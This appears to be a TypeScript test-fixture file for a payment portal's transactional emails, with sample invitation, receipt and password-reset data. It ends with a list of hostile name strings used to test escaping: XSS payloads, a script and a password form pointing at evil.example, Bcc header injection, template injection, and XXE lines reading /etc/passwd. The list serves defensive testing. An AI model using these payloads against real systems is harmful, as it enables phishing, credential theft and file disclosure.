import { randomUUID } from 'node:crypto';
import { deriveKeys } from '../src/derived-keys.ts';
import type { AccountProofMailData } from '../src/mail/account-mail.ts';
import { formatInstant } from '../src/mail/instant-format.ts';
import type { InvitationMailData } from '../src/mail/invitation-mail.ts';
import type { MailBrand, MailComposer } from '../src/mail/mail-composer.ts';
import { renderMail, type MailTemplate, type RenderedMail } from '../src/mail/mail-renderer.ts';
import type { PaymentMailData } from '../src/mail/payment-mail.ts';
import type { RegistrationCodeMailData } from '../src/mail/registration-code-mail.ts';
import { returnPathOf } from '../src/mail/return-path.ts';
import type { WelcomeMailData } from '../src/mail/welcome-mail.ts';
import type { OutgoingMail } from '../src/mail/mail-transport.ts';

/** The data of an invitation mail, complete, with what a test changes. */
export function sampleInvitationData(changes: Partial<InvitationMailData> = {}): InvitationMailData {
  return {
    dealerName: 'Ridgeline Building Supply',
    customerNames: ['Harrow & Sons Homes'],
    contactName: 'Maria Harrow',
    invitedByName: 'Dana Ortiz',
    link: 'https://pay.ridgeline.example/i/8Jk3nQeLw0m2X7rT5yUa1Zc4Vb6Nd9Fg',
    checkPhrase: 'copper river seven',
    verifyLink: 'https://pay.ridgeline.example/verify',
    validUntil: formatInstant(new Date('2026-12-07T04:30:00Z'), {
      locale: changes.locale ?? 'en',
      timeZone: 'America/Phoenix',
      style: 'deadline',
    }),
    message: 'This replaces the paper statements.\nCall me if anything looks off.',
    invoices: null,
    postalAddress: '1200 Mill Road\nAlbuquerque, NM 87102',
    locale: 'en',
    unsubscribeLink: 'https://pay.ridgeline.example/unsubscribe/8Jk3nQeLw0m2',
    ...changes,
  };
}

/** The data of a mail with a registration code, complete, with what a test changes. */
export function sampleCodeData(changes: Partial<RegistrationCodeMailData> = {}): RegistrationCodeMailData {
  const { dealerName, customerNames, contactName, postalAddress, locale } = sampleInvitationData();
  return {
    ...{ dealerName, customerNames, contactName, postalAddress, locale },
    code: '048213',
    validMinutes: 15,
    ...changes,
  };
}

/** The data of a welcome, complete, with what a test changes. */
export function sampleWelcomeData(changes: Partial<WelcomeMailData> = {}): WelcomeMailData {
  const { dealerName, customerNames, contactName, postalAddress, locale } = sampleInvitationData();
  return {
    ...{ dealerName, customerNames, contactName, postalAddress, locale },
    email: 'maria@harrowhomes.example',
    signInLink: 'https://pay.ridgeline.example/sign-in',
    ...changes,
  };
}

/** The data of a mail with a link to a new password, complete, with what a test changes. */
export function sampleProofData(changes: Partial<AccountProofMailData> = {}): AccountProofMailData {
  const { dealerName, contactName, postalAddress, locale } = sampleInvitationData();
  return {
    ...{ dealerName, contactName, postalAddress, locale },
    email: 'maria@harrowhomes.example',
    proofLink: 'https://pay.ridgeline.example/reset/8Jk3nQeLw0m2X7rT5yUa1Zc4Vb6Nd9Fg',
    validMinutes: 60,
    ...changes,
  };
}

const PORTAL = 'https://pay.ridgeline.example/portal/ridgeline';

/** The data of a mail about a payment, complete, with what a test changes. */
export function samplePaymentData({
  customerNames,
  ...changes
}: Partial<PaymentMailData> & { customerNames?: readonly string[] } = {}): PaymentMailData {
  const { dealerName, customerNames: names, contactName, postalAddress, locale } = sampleInvitationData();
  return {
    ...{ dealerName, contactName, postalAddress, locale },
    customerName: (customerNames ?? names)[0] ?? '',
    accountNumber: '10077',
    reference: '0198c0de-0000-7000-8000-00000000004e',
    currency: 'USD',
    lines: [
      { number: 'SO-88213', jobName: 'Job 14, Vista del Sol', minor: 1_248_000 },
      { number: 'SO-88790', jobName: null, minor: 320_410 },
      { number: 'CM-2201', jobName: 'Job 9, Mesa Court', minor: -100_000 },
    ],
    ...{ discountMinor: 6408, feeMinor: 250, totalMinor: 1_462_252, refundedMinor: 0, refundedFeeMinor: 0 },
    ...{ method: 'ach', bankName: 'First Bank of Albuquerque', last4: '6789' },
    day: formatInstant(new Date('2026-11-22T18:30:00Z'), {
      locale: changes.locale ?? 'en',
      timeZone: 'America/Phoenix',
    }),
    ...{ reason: null, agreement: null, mandateId: null },
    link: `${PORTAL}/payments/0198c0de-0000-7000-8000-00000000004e`,
    ...changes,
  };
}

/** The sample of each template, with what a test changes of what they have in common. */
export const SAMPLES: Record<
  MailTemplate,
  (
    changes?: Partial<
      Pick<InvitationMailData, 'dealerName' | 'contactName' | 'postalAddress' | 'locale' | 'customerNames'>
    >,
  ) => Record<string, unknown>
> = {
  invitation: (changes) => ({ ...sampleInvitationData(changes) }),
  reminder: (changes) => ({
    ...sampleInvitationData({ mailedOn: 'November 22, 2026', follows: 'invitation', ...changes }),
  }),
  new_link: (changes) => ({ ...sampleInvitationData(changes) }),
  welcome: (changes) => ({ ...sampleWelcomeData(changes) }),
  password_reset: (changes) => ({ ...sampleProofData(changes) }),
  registration_code: (changes) => ({ ...sampleCodeData(changes) }),
  email_change: (changes) => ({ ...sampleProofData({ validMinutes: 30, ...changes }) }),
  email_notice: (changes) => {
    const { dealerName, contactName, email, postalAddress, locale, signInLink } = sampleWelcomeData(changes);
    return { dealerName, contactName, email, postalAddress, locale, signInLink };
  },
  authorization: (changes) => ({
    ...samplePaymentData({
      agreement:
        'I authorize the supplier named on this page to debit the bank account chosen here once, electronically, for the amount and on or after the date shown.',
      mandateId: 'mandate_1Qx8Zk',
      ...changes,
    }),
  }),
  receipt: (changes) => ({ ...samplePaymentData(changes) }),
  payment_failed: (changes) => ({
    ...samplePaymentData({ reason: 'insufficient_funds', link: PORTAL, ...changes }),
  }),
  payment_returned: (changes) => ({
    ...samplePaymentData({ reason: 'not_authorized', link: PORTAL, ...changes }),
  }),
  payment_refunded: (changes) => ({ ...samplePaymentData({ link: PORTAL, ...changes }) }),
  payment_partly_refunded: (changes) => ({
    ...samplePaymentData({ refundedMinor: 584_901, refundedFeeMinor: 100, ...changes }),
  }),
};

export const LOCALES = ['en', 'es', 'fr'] as const;
/** One whose color can be read as it is, and one with a color that cannot, and a logo. */
export const BRANDS: readonly MailBrand[] = [
  { color: '#1f5f3f', logo: null },
  {
    color: '#ffd400',
    logo: {
      url: `https://pay.ridgeline.example/logos/0198c0de-0000-7000-8000-00000000000d/${'0a'.repeat(16)}.png`,
      width: 180,
      height: 44,
    },
  },
];

/** Names as long as they get, of several accounts: whose mail is the largest. */
export const WORST_NAMES = {
  dealerName: 'Ridgeline'.repeat(12),
  customerNames: Array.from({ length: 100 }, (_, n) => `${n}${'Härrow & "Söns" '.repeat(9)}`),
  contactName: 'Mariæ'.repeat(25),
  postalAddress: '1200 Mill Road\n'.repeat(40),
} as const;

/** As many open invoices as are listed, of several currencies, and more that are not. */
export function sampleInvoices(customerNames: readonly string[]): InvitationMailData['invoices'] {
  const invoices = Array.from({ length: 25 }, (_, n) => ({
    number: `SO-${88_213 + n}`,
    customerName: customerNames[n % customerNames.length] ?? '',
    dueDate: n === 24 ? null : `2026-11-${String(n + 1).padStart(2, '0')}`,
    minor: 1_248_000 - n * 39_771,
    currency: n % 9 === 8 ? 'CAD' : 'USD',
  }));
  const totals = [
    { currency: 'USD', minor: 19_840_055 },
    { currency: 'CAD', minor: 1_804_311 },
  ];
  return { invoices, count: 31, totals };
}

/** Every mail that there is, and one that lists invoices, in every language and brand, to whom `changes` say. */
export function everyMail(
  changes: Parameters<(typeof SAMPLES)['invitation']>[0] = {},
): { name: string; template: string; mail: RenderedMail }[] {
  const mails = [];
  for (const locale of LOCALES) {
    for (const brand of BRANDS) {
      const about = `${locale}, ${brand.color}`;
      for (const [template, sample] of Object.entries(SAMPLES)) {
        const mail = renderMail(template as MailTemplate, sample({ ...changes, locale }), brand);
        mails.push({ name: `${template}, ${about}`, template, mail });
      }
      const invited = sampleInvitationData({ ...changes, locale });
      const listing = { ...invited, invoices: sampleInvoices(invited.customerNames) };
      mails.push({
        name: `invitation with invoices, ${about}`,
        template: 'invitation',
        mail: renderMail('invitation', listing, brand),
      });
    }
  }
  return mails;
}

/** Of a secret that is none. */
export const SAMPLE_KEYS = deriveKeys(['0'.repeat(64)]);

/** One attempt of a mail, with what a test changes. */
export function sampleOutgoingMail(changes: Partial<OutgoingMail> = {}): OutgoingMail {
  const mailId = changes.mailId ?? randomUUID();
  return {
    mailId,
    mode: 'test',
    attempt: 1,
    messageId: `<${mailId}@notify.payvite.example>`,
    at: new Date('2026-11-22T10:15:02.123Z'),
    from: { name: 'Ridgeline Building Supply', address: 'ridgeline@notify.payvite.example' },
    to: { name: 'Maria Harrow', address: 'maria@harrowhomes.example' },
    replyTo: 'ar@ridgeline.example',
    returnPath: returnPathOf(
      SAMPLE_KEYS,
      { dealerId: '0198c0de-0000-7000-8000-00000000000d', mailId },
      'notify.payvite.example',
    ),
    unsubscribeLink: null,
    inReplyTo: null,
    subject: 'See and pay your Ridgeline Building Supply account online',
    html: '<p>Hello</p>',
    text: 'Hello',
    ...changes,
  };
}

/** One composer for mails of every template. */
export function everyTemplate(composer: MailComposer): Record<MailTemplate, MailComposer> {
  return {
    invitation: composer,
    reminder: composer,
    new_link: composer,
    welcome: composer,
    registration_code: composer,
    password_reset: composer,
    email_change: composer,
    email_notice: composer,
    authorization: composer,
    receipt: composer,
    payment_failed: composer,
    payment_returned: composer,
    payment_refunded: composer,
    payment_partly_refunded: composer,
  };
}

/** What people and ERPs should not write into a name, and some do. */
export const INJECTIONS = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'><svg onload=alert(1)>",
  '</td></tr></table><h1>Pay here</h1>',
  '<a href="https://evil.example">View invitation</a>',
  '<!-- --><style>*{display:none}</style>',
  '<mj-button href="https://evil.example">Pay</mj-button>',
  '<![endif]--><p>Outlook',
  '{{link}} {{{link}}} {{#each this}}{{@key}}{{/each}}',
  '{{constructor.constructor "return process"}}',
  '[[text.title]] [[color.brand]]',
  '</title><script>alert(1)</script>',
  'x" style="position:fixed;inset:0" onclick="alert(1)',
  'javascript:alert(1)//',
  '&lt;script&gt; &#60;b&#62;',
  'Maria\r\nBcc: everyone@evil.example\r\n\r\n<b>body</b>',
  '\u202Etxt.exe\u202C \u2066Maria\u2069\u0000\u0008',
  '`=${7*7}`',
  '<ScRiPt/src=//evil.example/x.js></sCrIpT>',
  '<svg><script>alert&#40;1&#41;</script></svg>',
  '<math><mtext></table><img src=x onerror=alert(1)></math>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<form action="https://evil.example"><input name=password>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '</style><style>a{display:none}',
  '</body></html><html><body><p>Another mail',
  '</p></div></main><h1>Invoice</h1>',
  '<p style="background:url(https://evil.example/x.png)">',
  '" href="https://evil.example" x="',
  "' onmouseover='alert(1)",
  '` onmouseover=`alert(1)',
  '<a href=javascript:alert(1)>Pay</a>',
  'https://evil.example/pay',
  '[Pay here](declineLink) **now**',
  '[[part.button link=link words=button]]',
  '{{> body}} {{lookup this "link"}} {{log link}}',
  '{{/if}}{{/each}}{{else}}',
  '\\{{link}} \\\\{{link}}',
  '{{color.brand}};}*{display:none}',
  '#1a2b4d #1a2b5d',
  '<mj-raw><b>x</b></mj-raw><mj-include path="/etc/passwd"/>',
  '<!--[if mso]><p>Outlook</p><![endif]-->',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
  '<plaintext>',
  '<textarea><xmp><noscript>',
  '</title><title>',
  '=?utf-8?Q?=0D=0ABcc:_everyone@evil.example?=',
  'Maria\nContent-Type: text/html\n\n<b>x</b>',
  'Maria\u2028Bcc: everyone@evil.example',
  '"Maria" <ceo@bank.example>, everyone@evil.example',
  'Maria\0<script>',
  '＜script＞alert(1)＜/script＞',
  '\ud83d<script>\udc00',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '\u001b]8;;https://evil.example\u0007Pay\u001b]8;;\u0007',
];
